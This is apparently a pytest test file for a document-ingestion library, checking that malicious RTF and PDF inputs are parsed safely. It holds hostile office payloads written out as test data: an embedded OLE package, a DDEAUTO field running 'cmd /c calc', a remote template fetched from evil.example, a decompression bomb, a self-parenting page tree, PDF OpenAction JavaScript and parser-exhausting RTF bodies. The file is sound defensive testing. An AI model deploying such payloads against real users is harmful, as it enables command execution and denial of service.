"""Office documents that are made to leak, to hang or to crash their reader."""

import zlib

import pytest

from broadsheet.reasons import Reason

RTF = {
    "an object with its rendering": (
        rb"A{\object\objemb{\*\objclass Package}{\objdata 4d5a9000}{\result{\pict 00}run me}}b."
    ),
    "an update of a field that runs a program": rb'A{\field{\*\fldinst DDEAUTO cmd "/c calc"}}b.',
    "a template from elsewhere": rb"A{\*\template http://evil.example/x.dotm}b.",
}


@pytest.mark.parametrize("case", RTF)
def test_what_an_rtf_document_embeds_is_inert(records, case):
    (record,) = records({"case.rtf": b"{\\rtf1 " + RTF[case] + b"}"})

    assert record.text == "Ab."


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "body",
    [
        rb"{\fonttbl" + rb"\f1\fcharset1" * 100_000 + b"}",
        rb"{\field{\*\fldinst{" * 3_000 + b"}}}" * 3_000,
        rb"\u8212" * 300_000,
        rb"\'" * 500_000,
    ],
    ids=["fonts", "fields", "characters", "unfinished bytes"],
)
def test_an_rtf_document_that_wants_to_be_searched_for_ever(outcomes, body):
    (outcome,) = outcomes({"case.rtf": b"{\\rtf1 " + body + b"}"})

    assert outcome.split()[0] in {"P", Reason.CONTENT_EMPTY}


def pdf(stream: bytes) -> bytes:
    """Return a PDF file of one page without a table of its objects."""
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.beep(1))>>"
        b">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent "
        b"2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1"
        b"/BaseFont/Helvetica>>>>>>>>endobj\n4 0 obj<</Filter/FlateDecode/Length "
        b"%d>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>\n" % (len(stream), stream)
    )


def reasons(worked) -> list[str]:
    """Return P for each row and the reason of each record that was set aside."""
    return ["P"] * len(worked.rows) + [str(item.reason) for item in worked.rejections]


@pytest.mark.timeout(60)
def test_a_pdf_that_grows(worked):
    bomb = zlib.compress(b"BT /F 1 Tf (x) Tj ET\n" * 400_000, 9)

    outcome = worked({"case.pdf": pdf(bomb)}, sources={"max_record_bytes": 2**20})

    (reason,) = reasons(outcome)
    assert reason in {
        Reason.SIZE_RECORD,
        Reason.RESOURCE_MEMORY,
        Reason.RESOURCE_TIMEOUT,
        Reason.RECORD_CRASHED,
        Reason.DOCUMENT_DAMAGED,
        Reason.CONTENT_EMPTY,
    }


@pytest.mark.timeout(60)
def test_a_pdf_whose_pages_are_their_own_parents(worked):
    loop = pdf(b"").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]").replace(b"Count 1", b"Count 99999999")

    (reason,) = reasons(worked({"case.pdf": loop}))

    assert reason in {Reason.DOCUMENT_DAMAGED, Reason.CONTENT_EMPTY, Reason.RESOURCE_TIMEOUT}


def test_a_script_of_a_pdf_is_not_run_and_its_neighbours_are_read(worked):
    page = pdf(zlib.compress(b"BT /F 1 Tf (The ferry ran aground off the cape.) Tj ET"))

    outcome = reasons(worked({"a.pdf": page[:60], "b.pdf": page}))

    assert outcome == ["P", Reason.DOCUMENT_DAMAGED]
